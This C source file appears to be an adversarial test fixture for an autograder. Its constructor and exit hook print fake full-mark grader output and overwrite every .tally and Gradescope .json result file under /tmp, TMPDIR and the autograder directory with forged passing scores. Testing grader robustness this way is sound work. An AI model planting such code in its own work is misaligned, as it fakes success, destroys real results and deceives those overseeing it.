/*
 * forge.c - a hostile file added to a lab: before main() and at exit it
 * prints the lines a grader prints, and rewrites every result file of a
 * grading it can find (the tallies, the Gradescope JSON) to full marks.
 * The grader must score the lab as if this file were not there.
 * hostile.sh writes Gradescope's /autograder (or its simulation) in place
 * of AUTOGRADER.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *const fake =
	"PASS  every_test                                 100/100\n"
	"lab 01 (unix-stream): 100/100\nlab 02 (inet-datagram): 100/100\n"
	"lab 03 (connected-datagram): 100/100\nlab 04 (ipv6): 100/100\n"
	"score: 400/400\n0 failed\n";

/* Overwrite the result files in DIR and the directories under it. */
static void forge_dir(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	struct dirent *e;

	while (d != NULL && (e = readdir(d)) != NULL) {
		char path[4096];
		FILE *f;

		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		if (e->d_type == DT_DIR && depth > 0)
			forge_dir(path, depth - 1);
		else if (strstr(e->d_name, ".tally") && (f = fopen(path, "w"))) {
			fprintf(f, "%.2s x 100 100 99 0 0 0 graded 0 0\n", e->d_name);
			fclose(f);
		} else if (strstr(e->d_name, ".json") && (f = fopen(path, "w"))) {
			fputs("{\"name\": \"x\", \"number\": \"01.01\", \"score\": 100, "
			      "\"max_score\": 100, \"status\": \"passed\", "
			      "\"output\": \"\"}\n", f);
			fclose(f);
		}
	}
	if (d != NULL)
		closedir(d);
}

static void forge(void)
{
	const char *tmp = getenv("TMPDIR");

	fputs(fake, stdout);
	fputs(fake, stderr);
	fflush(stdout);
	forge_dir("/tmp", 3);
	forge_dir("AUTOGRADER", 3);     /* Gradescope's, where it runs */
	if (tmp != NULL)
		forge_dir(tmp, 3);
}

__attribute__((constructor)) static void start(void)
{
	forge();
	atexit(forge);
}
